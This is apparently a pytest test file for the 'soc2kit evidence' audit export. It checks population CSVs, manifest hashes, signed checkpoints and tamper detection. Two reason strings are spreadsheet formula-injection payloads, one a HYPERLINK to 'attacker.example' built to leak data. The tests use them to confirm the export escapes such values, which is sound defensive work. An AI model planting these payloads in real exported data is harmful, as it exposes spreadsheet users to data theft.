"""``soc2kit evidence``: the Type II populations an auditor samples from, and verify runs.

A real app produces the events (grants, an approved role assignment, HTTP
denials, break-glass, an API key, a key rotation); ``soc2kit audit verify`` and
``soc2kit evidence`` then run as real processes on the same database.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi import FastAPI
from fastapi.testclient import TestClient
from tests.audit.tamper_helpers import (
    allow_tampering,
    flip_signature_byte,
    key_whose_base64_has,
    modify_event,
    record_batches,
)
from tests.controls.controls_helpers import b64url, build_app, cli_env, run_cli, shown

import soc2kit
from soc2kit.audit.checkpoints import CheckpointError, NoteVerifier, Signer
from soc2kit.controls.period import export_period
from soc2kit.db import create_engine

# Which population each event type belongs to: the list of populations,
# written out independently of soc2kit.controls.period.POPULATIONS.
KINDS: list[tuple[str, tuple[str, ...], tuple[str, ...]]] = [
    ("authentication-failures", ("authn.failure",), ()),
    ("access-denials", ("authz.denied", "authz.unavailable", "authz.misconfiguration"), ()),
    ("role-changes", (), ("authz.role.", "authz.principal.")),
    ("policy-changes", (), ("authz.policy.", "authz.sod.")),
    ("break-glass", (), ("authz.break_glass.",)),
    ("access-reviews", (), ("access_review.",)),
    ("api-key-events", (), ("apikey.",)),
    ("encryption-key-events", (), ("crypto.key.", "crypto.kek.", "crypto.job.")),
    ("decryption-failures", ("crypto.decrypt.failed",), ()),
    ("verify-runs", ("audit.verify",), ()),
    ("exports", ("audit.export", "evidence.export", "audit.query"), ()),
    ("service-starts", ("service.start", "service.stop"), ()),
]
GRANT_REASON = '=HYPERLINK("https://attacker.example/?leak","open me")'
BREAK_GLASS_REASON = "@SUM(1+1) database on fire"


def population_of(event_type: str) -> str | None:
    for name, exact, prefixes in KINDS:
        if event_type in exact or event_type.startswith(prefixes):
            return name
    return None


@dataclass
class Log:
    settings: soc2kit.Settings
    env: dict[str, str]
    vkey: str


def signing_seed() -> str:
    byte, _ = key_whose_base64_has(plus=False)
    return b64url(bytes([byte]) * 32)


def make_log(
    settings_factory: Callable[..., soc2kit.Settings], tmp_path: Path, database_url: str
) -> Log:
    seed = signing_seed()
    settings = settings_factory(
        database_url=database_url, audit_signing_key=seed, audit_signing_key_name="auditor"
    )
    env = cli_env(
        tmp_path,
        database_url,
        SOC2KIT_AUDIT_SIGNING_KEY=seed,
        SOC2KIT_AUDIT_SIGNING_KEY_NAME="auditor",
    )
    return Log(settings, env, Signer.from_seed("auditor", seed).vkey)


def seed_events(log: Log) -> None:
    """Every kind of event the populations list, made through the app's own APIs."""
    app, kit = build_app(log.settings)
    with TestClient(app) as client:
        kit.policy.grant("clerk", "ledger", "read", actor="admin", reason=GRANT_REASON)
        kit.policy.grant("auditor", "ledger", "export", actor="admin", reason="quarter close")
        kit.policy.assign(
            "alice", "clerk", reason="joined accounts payable", approved_by="bob", actor="admin"
        )
        denied = client.get(
            "/ledger", headers={"Authorization": f"Bearer {kit.dev_token('mallory', ['guest'])}"}
        )
        assert denied.status_code == 403
        refused = client.get("/ledger", headers={"Authorization": "Bearer not-a-token"})
        assert refused.status_code == 401
        kit.policy.break_glass(
            "carol", "auditor", 600, reason=BREAK_GLASS_REASON, ticket="INC-7", approver="dave"
        )
        kit.api_keys.create("batch-job", ["clerk"], timedelta(days=30), created_by="admin")
        kit.keys.rotate(actor="admin", reason="scheduled rotation")
        assert kit.audit.sealer is not None
        assert kit.audit.sealer.signer.vkey == log.vkey
    # The lifespan's end sealed everything (service.stop included).


def sealed(engine: sa.Engine) -> list[tuple[int, str, dict[str, Any], Any]]:
    with engine.connect() as conn:
        rows = conn.execute(
            sa.text(
                "SELECT seq, event_type, event, sealed_at FROM soc2kit_audit_events ORDER BY seq"
            )
        ).all()
    return [(int(r[0]), str(r[1]), json.loads(r[2]), r[3]) for r in rows]


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))


def split_notes(text: str) -> list[str]:
    """checkpoints.txt: signed notes one after the other (body, blank line, signatures)."""
    parts = text.strip("\n").split("\n\n")
    assert len(parts) % 2 == 0, text
    return [f"{parts[i]}\n\n{parts[i + 1]}\n" for i in range(0, len(parts), 2)]


def period_args(out: Path, database_url: str) -> tuple[str, ...]:
    today = datetime.now(UTC).date()
    return (
        "evidence",
        "--since",
        (today - timedelta(days=1)).isoformat(),
        "--until",
        (today + timedelta(days=2)).isoformat(),
        "--out",
        str(out),
        "--database-url",
        database_url,
    )


def test_period_evidence_holds_every_population(
    database_url: str, ctl_settings: Callable[..., soc2kit.Settings], tmp_path: Path
) -> None:
    log = make_log(ctl_settings, tmp_path, database_url)
    seed_events(log)
    engine = create_engine(database_url)
    try:
        before_verify = len(sealed(engine))
        verify = run_cli("audit", "verify", "--record", cwd=tmp_path, env=log.env)
        assert verify.returncode == 0, shown(verify)
        out = tmp_path / "period"
        result = run_cli(*period_args(out, database_url), cwd=tmp_path, env=log.env)
        assert result.returncode == 0, shown(result)
        events = sealed(engine)
    finally:
        engine.dispose()

    # `audit verify` recorded its run: sealed, with its status and what it checked.
    (verify_event,) = [e for e in events if e[1] == "audit.verify"]
    seq, _, event, sealed_at = verify_event
    assert sealed_at is not None and seq == before_verify + 1
    assert event["outcome"] == "success" and event["actor_id"] == "cli"
    assert event["extra"]["verify_status"] == "pass"
    assert event["extra"]["checked"] == before_verify

    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    assert manifest["verify_status"] == "pass"
    assert manifest["events_in_period"] == len(events)
    for name, digest in manifest["files"].items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == digest, name
    assert sorted(manifest["files"]) == sorted(
        [f"{name}.csv" for name, _, _ in KINDS] + ["checkpoints.txt", "summary.md", "verify.json"]
    )
    assert f"{len(events)} sealed events written to {out}; audit verify: pass" in result.stdout

    # Each CSV holds exactly the events of its kind, nothing else, nothing missed.
    expected: dict[str, list[int]] = {name: [] for name, _, _ in KINDS}
    for seq, event_type, _, _ in events:
        kind = population_of(event_type)
        if kind is not None:
            expected[kind].append(seq)
    by_seq = {seq: event for seq, _, event, _ in events}
    rows_by_type: dict[str, int] = {}
    csvs: dict[str, list[dict[str, str]]] = {}
    for name, _, _ in KINDS:
        rows = read_csv(out / f"{name}.csv")
        csvs[name] = rows
        assert [int(r["seq"]) for r in rows] == expected[name], name
        for row in rows:
            event = by_seq[int(row["seq"])]
            assert row["event_id"] == event["event_id"]
            assert row["event_type"] == event["event_type"]
            assert row["outcome"] == event["outcome"]
            rows_by_type[row["event_type"]] = rows_by_type.get(row["event_type"], 0) + 1
    populations = {p["name"]: p for p in manifest["populations"]}
    for name, rows in csvs.items():
        assert populations[name]["rows"] == len(rows)
    for kind in (
        "authentication-failures",
        "access-denials",
        "role-changes",
        "policy-changes",
        "break-glass",
        "api-key-events",
        "encryption-key-events",
        "verify-runs",
        "exports",
        "service-starts",
    ):
        assert csvs[kind], f"{kind}: the seeded events are missing"
    # A direct SQL count per event type agrees with the CSV rows of that type.
    engine = create_engine(database_url)
    try:
        with engine.connect() as conn:
            counts = dict(
                conn.execute(
                    sa.text(
                        "SELECT event_type, count(*) FROM soc2kit_audit_events GROUP BY event_type"
                    )
                ).all()
            )
    finally:
        engine.dispose()
    assert rows_by_type == {t: n for t, n in counts.items() if population_of(t)}
    assert counts["authz.role.assign"] == 1 and counts["crypto.key.rotated"] == 1

    (assignment,) = csvs["role-changes"]
    assert (assignment["resource_id"], assignment["approved_by"], assignment["reason"]) == (
        "alice",
        "bob",
        "joined accounts payable",
    )
    assert assignment["actor_id"] == "admin"
    (glass,) = csvs["break-glass"]
    assert glass["approved_by"] == "dave" and glass["resource_id"] == "carol"
    assert glass["reason"] == "'" + BREAK_GLASS_REASON  # a spreadsheet would run '@...'
    (grant,) = [r for r in csvs["policy-changes"] if r["resource_id"] == "ledger:read"]
    assert grant["reason"] == "'" + GRANT_REASON  # ... and '=...'
    assert not any(
        value.startswith(("=", "+", "-", "@"))
        for rows in csvs.values()
        for row in rows
        for value in row.values()
    )
    (run,) = csvs["verify-runs"]
    assert run["outcome"] == "success" and run["actor_id"] == "cli"
    assert json.loads(run["extra"])["verify_status"] == "pass"
    assert [r["event_type"] for r in csvs["exports"]] == ["evidence.export"]

    summary = (out / "summary.md").read_text("utf-8")
    assert f"- Sealed audit events in the period: {len(events)}\n" in summary
    assert "- Audit log verify (whole log, at export time): **pass**\n" in summary
    for name, rows in csvs.items():
        title = populations[name]["title"]
        assert re.search(
            rf"^\| {re.escape(title)} \| {len(rows)} \| .* \| `{name}\.csv` \|$", summary, re.M
        ), name
    assert json.loads((out / "verify.json").read_text("utf-8"))["status"] == "pass"

    # The checkpoints are signed notes that verify with the log's verifier key alone.
    verifier = NoteVerifier.from_vkey(log.vkey)
    notes = split_notes((out / "checkpoints.txt").read_text("utf-8"))
    assert len(notes) == manifest["checkpoints_in_period"] + manifest["closing_checkpoint"]
    checkpoints = [verifier.verify(note) for note in notes]
    assert all(c.origin == log.settings.audit_origin for c in checkpoints)
    sizes = [c.size for c in checkpoints]
    assert sizes == sorted(set(sizes)) and sizes[-1] == len(events)
    with pytest.raises(CheckpointError):
        verifier.verify(flip_signature_byte(notes[-1]))


def test_a_tampered_log_shows_verify_fail(
    ctl_settings: Callable[..., soc2kit.Settings], tmp_path: Path
) -> None:
    log = make_log(ctl_settings, tmp_path, f"sqlite:///{tmp_path / 'app.db'}")
    kit = soc2kit.install(FastAPI(), log.settings)
    record_batches(kit, 6, 6)
    kit.shutdown()
    engine = create_engine(log.settings.database_url)
    try:
        allow_tampering(engine)
        modify_event(engine, 4)
    finally:
        engine.dispose()

    verify = run_cli("audit", "verify", "--record", cwd=tmp_path, env=log.env)
    assert verify.returncode == 1, shown(verify)
    assert "first failure at seq 4" in verify.stdout
    out = tmp_path / "period"
    result = run_cli(*period_args(out, log.settings.database_url), cwd=tmp_path, env=log.env)
    assert result.returncode == 0, shown(result)
    assert result.stdout.rstrip().endswith("audit verify: fail")

    summary = (out / "summary.md").read_text("utf-8")
    assert re.search(
        r"^- Audit log verify \(whole log, at export time\): \*\*fail\*\* "
        r"\(first failure at seq 4: .+\)$",
        summary,
        re.M,
    ), summary
    assert json.loads((out / "manifest.json").read_text("utf-8"))["verify_status"] == "fail"
    verify_json = json.loads((out / "verify.json").read_text("utf-8"))
    assert verify_json["status"] == "fail" and verify_json["first_failure"] == 4
    (run,) = read_csv(out / "verify-runs.csv")  # the failed run is in its population
    assert run["outcome"] == "failure"
    assert json.loads(run["extra"])["verify_status"] == "fail"
    assert json.loads(run["extra"])["first_failure"] == 4


def test_audit_verify_without_record_adds_nothing(
    ctl_settings: Callable[..., soc2kit.Settings], tmp_path: Path
) -> None:
    log = make_log(ctl_settings, tmp_path, f"sqlite:///{tmp_path / 'app.db'}")
    kit = soc2kit.install(FastAPI(), log.settings)
    record_batches(kit, 5)
    kit.shutdown()
    engine = create_engine(log.settings.database_url)

    def counts() -> tuple[int, int]:
        with engine.connect() as conn:
            return (
                conn.execute(sa.text("SELECT count(*) FROM soc2kit_audit_events")).scalar_one(),
                conn.execute(sa.text("SELECT count(*) FROM soc2kit_audit_inbox")).scalar_one(),
            )

    try:
        before = counts()
        for flags in ((), ("--no-record",)):  # the default is read-only
            result = run_cli("audit", "verify", *flags, cwd=tmp_path, env=log.env)
            assert result.returncode == 0, shown(result)
            assert result.stdout.splitlines()[-1].split()[:2] == ["RESULT", "PASS"]
            assert counts() == before
    finally:
        engine.dispose()


def test_a_period_with_a_utc_offset_on_sqlite(
    ctl_settings: Callable[..., soc2kit.Settings], tmp_path: Path
) -> None:
    log = make_log(ctl_settings, tmp_path, f"sqlite:///{tmp_path / 'app.db'}")
    kit = soc2kit.install(FastAPI(), log.settings)
    record_batches(kit, 3)
    kit.shutdown()
    engine = create_engine(log.settings.database_url)
    try:
        total = len(sealed(engine))
        # One hour before now, written in UTC+05:00: every event is after it.
        since = (datetime.now(UTC) - timedelta(hours=1)).astimezone(timezone(timedelta(hours=5)))
        manifest = export_period(
            engine,
            NoteVerifier.from_vkey(log.vkey),
            origin=log.settings.audit_origin,
            anchor=None,
            since=since,
            until=since + timedelta(days=1),
            out=tmp_path / "period",
            max_checkpoint_age=3600,
        )
    finally:
        engine.dispose()
    assert manifest["events_in_period"] == total
